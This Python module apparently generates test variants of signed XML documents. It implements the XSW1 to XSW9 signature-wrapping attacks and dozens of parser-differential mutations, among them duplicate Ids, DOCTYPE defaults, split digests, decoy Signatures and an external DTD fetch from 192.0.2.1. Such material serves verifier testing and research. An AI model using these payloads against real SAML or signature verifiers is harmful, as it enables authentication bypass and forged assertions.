"""Attacks on what a signed XML document says: each takes a document of ours and returns one that another would read
differently, or that some parser would. Text is moved as bytes, never parsed and written anew: what is not meant to
change does not.

The numbers XSW1 to XSW8 are those of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX 2012), told of
any signed element in place of an assertion; XSW9 hangs the whole document below another. The rest are differences between
parsers, canonicalizers and readers of XML, as those published until 2025 (duplicate Ids and namespaces, void
canonicalization, split text, declared defaults).
"""

import base64
import hashlib
import re

EVIL = b'EVIL'      # stands in whatever an attacker put in for people to read


class Signed:
    """A document with one signature: where that stands, and what it covers besides its own properties."""

    def __init__(self, data, cover):
        self.data = data
        found = re.search(rb'<(ds:)?Signature [^>]*>.*?</(ds:)?Signature>', data, re.S)
        self.sig = found.group()
        self.ds = found.group(1) or b''
        self.by_id = cover['path'] != '/'
        if self.by_id:
            self.target = data[cover['offset']:cover['offset'] + cover['length']]
        else:   # the whole document: the first element without the Signature in it is what is played with
            elements = (element_at(data, tag.start()) for tag in re.finditer(rb'<[A-Za-z]', data))
            self.target = next(element for element in elements if self.sig not in element)
        named = re.match(rb'<[^>]*?\s(Id|ID|id|xml:id)="([^"]*)"', self.target)
        self.attr, self.value = named.groups() if named else (b'Id', b'data')
        self.tag = re.match(rb'<([^\s>/]+)', self.target).group(1)

    def evil(self, value=b'evil', attr=None):
        """A copy of the signed element that says something else, under another Id, or (None) none."""
        text = re.sub(rb'>[^<>]*[^<>\s][^<>]*<', b'>' + EVIL + b'<', self.target.replace(self.sig, b''), count=1)
        own = rb' %s="%s"' % (self.attr, self.value)
        new = b' %s="%s"' % (attr or self.attr, value) if value is not None else b''
        head, rest = text.split(b'>', 1)
        if own in head:
            head = head.replace(own, new)
        elif value is not None and self.by_id:
            head += new
        return head + b'>' + rest

    def swap(self, old, new):
        assert self.data.count(old) >= 1, old
        return self.data.replace(old, new, 1)

    def in_signature(self, added, name=b'Signature'):
        """The document, with something added before the end of its Signature, or of the first such element in it."""
        end = b'</' + self.ds + name + b'>'
        place = self.sig.rindex(end) if name == b'Signature' else self.sig.index(end)
        return self.swap(self.sig, self.sig[:place] + added + self.sig[place:])

    def object(self, inside):
        return b'<%sObject>%s</%sObject>' % (self.ds, inside, self.ds)

    def declared(self, declaration):
        """The document under another XML declaration, or DOCTYPE."""
        return declaration + re.sub(rb'^\xef\xbb\xbf|^<\?xml[^>]*\?>\s*', b'', self.data)

    def value_of(self, name):
        """The text of the first such element of the Signature."""
        return re.search(rb'<%s%s>([^<]*)<' % (self.ds, name), self.sig).group(1)

    def split(self, name, separator):
        text = self.value_of(name)
        return self.swap(b'>' + text + b'<', b'>' + text[:8] + separator + text[8:] + b'<')

    def root_tag(self, added):
        at = self.data.index(b'>', re.search(rb'<[A-Za-z]', self.data).start())
        at -= self.data[at - 1:at] == b'/'
        return self.data[:at] + added + self.data[at:]

    def before_end_of_root(self, added):
        at = self.data.rindex(b'</')
        return self.data[:at] + added + self.data[at:]

    def after_start_of_root(self, added):
        at = self.data.index(b'>', re.search(rb'<[A-Za-z]', self.data).start()) + 1
        return self.data[:at] + added + self.data[at:]


def element_at(data, start):
    """The bytes of the element that begins there (no '>' in its attributes, no comment in it)."""
    depth = 0
    for tag in re.finditer(rb'<(/?)[A-Za-z][^>]*?(/?)>', data[start:]):
        depth += -1 if tag.group(1) else 0 if tag.group(2) else 1
        if depth == 0:
            return data[start:start + tag.end()]
    raise ValueError('no element')


# --- wrapping ----------------------------------------------------------------------------------------------------------

WRAPPED = {
    'XSW1': lambda s, e: s.in_signature(s.target).replace(s.target, e, 1) if before(s) else
            s.in_signature(s.target)[::-1].replace(s.target[::-1], e[::-1], 1)[::-1],
    'XSW2': lambda s, e: s.swap(s.target, e).replace(s.sig, s.target + s.sig, 1),
    'XSW3': lambda s, e: s.swap(s.target, e + s.target),
    'XSW4': lambda s, e: s.swap(s.target, e[:e.rindex(b'</')] + s.target + e[e.rindex(b'</'):]),
    'XSW5': lambda s, e: Signed.before_end_of_root(again(s, s.swap(s.target, e)), s.target),
    'XSW6': lambda s, e: again(s, s.swap(s.target, e)).in_signature(s.target, b'KeyInfo'),
    'XSW7': lambda s, e: s.after_start_of_root(b'<Extensions>' + e + b'</Extensions>'),
    'XSW8': lambda s, e: again(s, s.swap(s.target, e)).in_signature(s.object(s.target)),
    'XSW9': lambda s, e: b'<Wrapper>' + e + body(s) + b'</Wrapper>',
}


def before(s):
    return s.data.index(s.target) < s.data.index(s.sig)


def again(s, data):
    """The same signed document with other bytes."""
    copy = Signed.__new__(Signed)
    copy.__dict__.update(s.__dict__, data=data)
    return copy


def body(s):
    return s.data[re.search(rb'<[A-Za-z]', s.data).start():]


ATTACKS = {}
for number, wrap in WRAPPED.items():
    ATTACKS[f'{number}, another Id'] = lambda s, wrap=wrap: wrap(s, s.evil())
    ATTACKS[f'{number}, the same Id'] = lambda s, wrap=wrap: wrap(s, s.evil(s.value))
    ATTACKS[f'{number}, no Id'] = lambda s, wrap=wrap: wrap(s, s.evil(None))


# --- the rest, by name -------------------------------------------------------------------------------------------------

def attack(name):
    def register(function):
        ATTACKS[name] = function
        return function
    return register


def beside(attributes):
    """A second element whose attributes some parser could take for the Id that is referenced."""
    return lambda s: s.swap(s.target, b'<%s %s>EVIL</%s>' % (s.tag, attributes % {b'v': s.value}, s.tag) + s.target)


ATTACKS.update({
    'Id: the value under ID': beside(b'ID="%(v)s"'),
    'Id: the value under id': beside(b'id="%(v)s"'),
    'Id: the value under xml:id': beside(b'xml:id="%(v)s"'),
    'Id: the value in a namespace (x:Id)': beside(b'xmlns:x="urn:x" x:Id="%(v)s"'),
    'Id: the value in two namespaces': beside(b'xmlns:x="urn:x" xmlns:y="urn:y" x:Id="%(v)s" y:Id="%(v)s"'),
    'Id: one attribute twice': beside(b'Id="%(v)s" Id="%(v)s"'),
    'Id: one attribute twice by two prefixes': beside(b'xmlns:x="urn:x" xmlns:y="urn:x" x:Id="1" y:Id="%(v)s"'),
    'Id: the value with white space in xml:id': beside(b'xml:id=" %(v)s "'),
    'Id: in capitals': lambda s: beside(b'Id="' + s.value.upper() + b'x"')(s),
    'Id: through a character reference': lambda s: beside(b'Id="&#%d;%s"' % (s.value[0], s.value[1:]))(s),
    'Id: on the Signature': lambda s: s.swap(s.sig, b'<%sSignature Id="%s" ' % (s.ds, s.value) + re.sub(
        rb'(Signature[^>]*) Id="[^"]*"', rb'\1', s.sig, count=1).split(b' ', 1)[1]),
    'Id: a second one on what is signed': lambda s: s.swap(
        s.target, s.target.replace(b'<' + s.tag, b'<' + s.tag + b' xmlns:x="urn:x" x:Id="other"', 1)),
    'Id: taken from what is signed': lambda s: s.swap(s.target, re.sub(rb' %s="[^"]*"' % s.attr, b'', s.target, count=1)
                                                      if s.by_id else s.evil(None)),
})

for what in (b'DigestValue', b'SignatureValue'):
    for name, separator in (('a comment', b'<!-- x -->'), ('an instruction', b'<?x y?>'), ('an element', b'<x xmlns=""/>'),
                            ('an empty CDATA section', b'<![CDATA[]]>'), ('an entity', b'&x;')):
        ATTACKS[f'{what.decode()}: split by {name}'] = lambda s, what=what, separator=separator: s.split(what, separator)
    ATTACKS[f'{what.decode()}: in CDATA'] = lambda s, what=what: s.swap(
        b'>' + s.value_of(what) + b'<', b'><![CDATA[' + s.value_of(what) + b']]><')
ATTACKS.update({
    'DigestValue: of nothing': lambda s: s.swap(s.value_of(b'DigestValue'), b'47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='),
    'DigestValue: two of them': lambda s: s.swap(b'<%sDigestValue>' % s.ds, b'<%sDigestValue>AAAA</%sDigestValue><%sDigestValue>'
                                                 % (s.ds, s.ds, s.ds)),
    'X509Certificate: split by a comment': lambda s: s.split(b'X509Certificate', b'<!-- x -->'),
    'Content: changed': lambda s: s.swap(s.target, s.evil(s.value)),
    'Content: a comment in its text': lambda s: re.sub(rb'>([^<>]*[^<>\s])<(?=/[^>]*>)', rb'>\1<!-- EVIL --><', s.data, count=1),
    'Content: text as CDATA': lambda s: re.sub(rb'>([^<>&\]]*[^<>&\]\s])<(?=/[^>]*>)', rb'><![CDATA[\1]]><', s.data, count=1),
    'Content: an instruction in its text': lambda s: re.sub(rb'>([^<>]*[^<>\s])<(?=/[^>]*>)', rb'>\1<?EVIL?><', s.data, count=1),
    'Content: in a default namespace': lambda s: s.swap(s.target, b'<Extra xmlns="urn:evil">' + s.target + b'</Extra>'),
    'Content: below an unused prefix': lambda s: s.swap(s.target, b'<Extra xmlns:evil="urn:evil">' + s.target + b'</Extra>'),
    'Content: below an xml:lang': lambda s: s.swap(s.target, b'<Extra xml:lang="EVIL">' + s.target + b'</Extra>'),
    'Content: below a plain element': lambda s: s.swap(s.target, b'<Extra>' + s.target + b'</Extra>'),
    'DOCTYPE: an Id by default': lambda s: s.declared(b'<!DOCTYPE x [<!ATTLIST %s Id CDATA "%s">]>' % (s.tag, s.value)),
    'DOCTYPE: of type ID': lambda s: s.declared(b'<!DOCTYPE x [<!ATTLIST %s other ID #IMPLIED>]>' % s.tag),
    'DOCTYPE: an entity in the content': lambda s: again(s, s.declared(b'<!DOCTYPE x [<!ENTITY e "EVIL">]>')).swap(
        s.target, s.target.replace(b'</', b'&e;</', 1)),
    'DOCTYPE: an external subset': lambda s: s.declared(b'<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">'),
    'Entity: undeclared': lambda s: s.swap(s.target, s.target.replace(b'</', b'&e;</', 1)),
    'SignedInfo: another one first': lambda s: s.swap(b'<%sSignedInfo>' % s.ds, info(s).replace(b'#', b'#x') + b'<%sSignedInfo>' % s.ds),
    'SignedInfo: another one last': lambda s: s.in_signature(info(s)),
    'SignedInfo: one of another namespace first': lambda s: s.swap(
        b'<%sSignedInfo>' % s.ds, b'<x:SignedInfo xmlns:x="urn:evil">EVIL</x:SignedInfo><%sSignedInfo>' % s.ds),
    'SignedInfo: one in an Object': lambda s: s.in_signature(s.object(info(s))),
    'SignedInfo: text in it': lambda s: s.swap(b'<%sSignedInfo>' % s.ds, b'<%sSignedInfo>EVIL' % s.ds),
    'SignedInfo: a comment in it': lambda s: s.swap(b'<%sSignedInfo>' % s.ds, b'<%sSignedInfo><!-- EVIL -->' % s.ds),
    'SignedInfo: a transform taken out': lambda s: s.swap(s.sig, re.sub(
        rb'<%sTransforms>.*?</%sTransforms>' % (s.ds, s.ds), b'', s.sig, count=1, flags=re.S)),
    'SignedInfo: the reference to the Signature itself': lambda s: s.swap(s.sig, re.sub(
        rb'URI="[^"]*"', b'URI="#self"', b'<%sSignature Id="self" ' % s.ds + re.sub(rb'(Signature[^>]*) Id="[^"]*"', rb'\1', s.sig, count=1).split(b' ', 1)[1],
        count=1)),
    'SignedInfo: the reference to nothing': lambda s: s.swap(s.sig, re.sub(rb'URI="[^"]*"', b'URI="#none"', s.sig, count=1)),
    'SignedInfo: the reference without URI': lambda s: s.swap(s.sig, re.sub(rb' URI="[^"]*"', b'', s.sig, count=1)),
    'Signature: inside another': lambda s: s.swap(s.sig, b'<%sSignature xmlns%s="http://www.w3.org/2000/09/xmldsig#">' % (
        s.ds, b':ds' if s.ds else b'') + info(s) + s.object(s.sig) + b'</%sSignature>' % s.ds),
    'Signature: a decoy without signature before it': lambda s: s.swap(
        s.sig, b'<Signature xmlns="http://www.w3.org/2000/09/xmldsig">EVIL</Signature>' + s.sig),
    'Signature: an empty one before it': lambda s: s.swap(s.sig, b'<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>' + s.sig),
    'Signature: in another namespace': lambda s: s.swap(b'"http://www.w3.org/2000/09/xmldsig#"', b'"http://www.w3.org/2000/09/xmldsig"'),
    'Signature: under another prefix': lambda s: s.swap(s.sig, s.sig.replace(b'<' + s.ds, b'<q:').replace(b'</' + s.ds, b'</q:').replace(
        b'<q:/', b'</q:').replace(b'xmlns:ds=', b'xmlns:q=').replace(b'xmlns="http', b'xmlns:q="http', 1)),
    'Signature: twice': lambda s: s.swap(s.sig, s.sig + s.sig),
    'Signature: the value of nothing': lambda s: s.swap(s.value_of(b'SignatureValue'), b''),
    'Signature: moved to the root': lambda s: Signed.before_end_of_root(again(s, s.swap(s.sig, b'')), s.sig),
    'Signature: the document in its Object': lambda s: s.sig[:s.sig.rindex(b'</')] + s.object(body(again(s, s.swap(s.sig, b'')))) +
            s.sig[s.sig.rindex(b'</'):],
    'Object: one more': lambda s: s.in_signature(s.object(s.evil(None))),
    'Object: one more, behind a hundred': lambda s: s.in_signature(100 * s.object(b'') + s.object(s.evil(None))),
    'Object: properties with something foreign': lambda s: s.in_signature(s.object(
        b'<x:QualifyingProperties xmlns:x="http://uri.etsi.org/01903/v1.3.2#" Target="#x"><x:UnsignedProperties>'
        b'<x:UnsignedSignatureProperties>' + s.evil(None) + b'</x:UnsignedSignatureProperties></x:UnsignedProperties>'
        b'</x:QualifyingProperties>')),
    'Object: signed properties, unsigned': lambda s: s.in_signature(s.object(
        b'<x:QualifyingProperties xmlns:x="http://uri.etsi.org/01903/v1.3.2#" Target="#x"><x:SignedProperties>' + s.evil(None)
        + b'</x:SignedProperties></x:QualifyingProperties>')),
    'Object: a time by another name': lambda s: s.in_signature(s.object(
        b'<SignatureProperties xmlns=""><EVIL><SigningTime>2026-11-22T09:00:00</SigningTime></EVIL></SignatureProperties>')),
    'Object: text in it': lambda s: s.in_signature(s.object(EVIL)),
    'Object: a Manifest of something forged': lambda s: s.in_signature(s.object(manifest(FORGED) + FORGED)),
    'Object: a Manifest of something else': lambda s: s.in_signature(s.object(manifest(b'') + FORGED)),
    'KeyInfo: something foreign': lambda s: s.in_signature(b'<x xmlns="">EVIL</x>', b'KeyInfo'),
    'KeyInfo: text in it': lambda s: s.in_signature(EVIL, b'KeyInfo'),
    'KeyInfo: text in X509Data': lambda s: s.in_signature(EVIL, b'X509Data'),
    'KeyInfo: gone': lambda s: s.swap(s.sig, re.sub(rb'<%sKeyInfo>.*</%sKeyInfo>' % (s.ds, s.ds), b'', s.sig, flags=re.S)),
    'Namespace: a relative one on the root': lambda s: s.root_tag(b' xmlns:r="relative"'),
    'Namespace: a relative one at SignedInfo': lambda s: s.swap(b'<%sSignedInfo>' % s.ds, b'<%sSignedInfo xmlns:r="../x">' % s.ds),
    'Namespace: xmlns:xml bound anew': lambda s: s.root_tag(b' xmlns:xml="urn:x"'),
    'Namespace: a prefix undeclared': lambda s: s.root_tag(b' xmlns:r=""'),
    'Encoding: version 1.1': lambda s: s.declared(b'<?xml version="1.1" encoding="UTF-8"?>'),
    'Encoding: ISO-8859-1 declared': lambda s: s.declared(b'<?xml version="1.0" encoding="ISO-8859-1"?>'),
    'Encoding: UTF-16 declared': lambda s: s.declared(b'<?xml version="1.0" encoding="UTF-16"?>'),
    'Encoding: UTF-7 declared': lambda s: s.declared(b'<?xml version="1.0" encoding="UTF-7"?>'),
    'Encoding: unknown': lambda s: s.declared(b'<?xml version="1.0" encoding="EVIL"?>'),
    'Encoding: a BOM against it': lambda s: s.declared(b'\xef\xbb\xbf<?xml version="1.0" encoding="ISO-8859-1"?>'),
    'Encoding: in UTF-16 all of it': lambda s: '<?xml version="1.0" encoding="UTF-16"?>'.encode('utf-16') + body(s).decode().encode('utf-16')[2:],
    'Encoding: a NUL': lambda s: s.swap(s.target, s.target.replace(b'</', b'\0</', 1)),
    'Encoding: UTF-8 too long': lambda s: s.swap(s.target, s.target.replace(b'</', b'\xc0\xaf</', 1)),
    'Encoding: a declaration twice': lambda s: s.declared(b'<?xml version="1.0"?><?xml version="1.0"?>'),
    'Outside: a comment before the root': lambda s: s.declared(b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- EVIL -->'),
    'Outside: an instruction before the root': lambda s: s.declared(b'<?xml version="1.0" encoding="UTF-8"?>\n<?EVIL?>'),
    'Outside: a second root': lambda s: s.data + s.evil(None),
})


FORGED = b'<f:Forged xmlns:f="urn:evil" Id="forged">EVIL</f:Forged>'     # as it stands, its own exclusive canonical form


def manifest(octets):
    """A Manifest that names FORGED by the digest of these octets."""
    digest = base64.b64encode(hashlib.sha256(octets).digest())
    return (b'<m:Manifest xmlns:m="http://www.w3.org/2000/09/xmldsig#"><m:Reference URI="#forged"><m:Transforms><m:Transform '
            b'Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></m:Transforms><m:DigestMethod '
            b'Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><m:DigestValue>' + digest + b'</m:DigestValue></m:Reference>'
            b'</m:Manifest>')


def info(s):
    return re.search(rb'<%sSignedInfo>.*</%sSignedInfo>' % (s.ds, s.ds), s.sig, re.S).group()
